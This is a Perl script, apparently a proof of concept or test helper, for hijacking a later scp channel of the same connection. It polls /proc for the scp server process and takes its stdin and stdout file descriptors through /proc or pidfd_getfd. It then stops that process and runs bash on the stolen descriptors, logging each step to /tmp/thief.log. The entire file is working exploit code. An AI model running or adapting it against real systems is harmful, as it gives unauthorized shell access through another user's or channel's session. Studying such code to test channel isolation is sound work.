#!/usr/bin/perl
# Run by a user in a session: waits for the scp server of a later channel of the same connection,
# takes its channel descriptors (through /proc, else pidfd_getfd), stops it, and runs a shell on them.
use strict;
use warnings;
open(my $log, '>>', '/tmp/thief.log') or die;
select((select($log), $| = 1)[0]);
my $deadline = time + 60;
while (time < $deadline) {
  opendir(my $proc, '/proc') or die;
  for my $pid (grep { /^\d+$/ && $_ != $$ } readdir $proc) {
    open(my $c, '<', "/proc/$pid/cmdline") or next;
    my $cmd = do { local $/; <$c> } // '';
    next unless $cmd =~ m{^/usr/bin/scp\0-t\0};
    print $log "scp $pid: fd0 ", readlink("/proc/$pid/fd/0") // "?$!", " fd1 ", readlink("/proc/$pid/fd/1") // "?$!", "\n";
    my ($in, $out);
    unless (open($in, '<', "/proc/$pid/fd/0") && open($out, '>', "/proc/$pid/fd/1")) {
      print $log "open via /proc: $!; trying pidfd_getfd\n";
      my $pidfd = syscall(434, $pid, 0);
      print $log "pidfd_open: $pidfd $!\n";
      my $fd0 = syscall(438, $pidfd, 0, 0);
      my $fd1 = syscall(438, $pidfd, 1, 0);
      print $log "pidfd_getfd: $fd0 $fd1 $!\n";
      exit 1 if $fd0 < 0 || $fd1 < 0;
      open($in, '<&=', $fd0) or die;
      open($out, '>&=', $fd1) or die;
    }
    kill 'STOP', $pid;
    print $log "stolen, scp stopped\n";
    my $child = fork;
    if (!$child) {
      open(STDIN, '<&', $in) or die;
      open(STDOUT, '>&', $out) or die;
      open(STDERR, '>&', $out) or die;
      exec '/bin/bash';
    }
    waitpid($child, 0);
    print $log "shell ended\n";
    kill 'CONT', $pid;
    kill 'TERM', $pid;
    exit 0;
  }
  select(undef, undef, undef, 0.01);
}
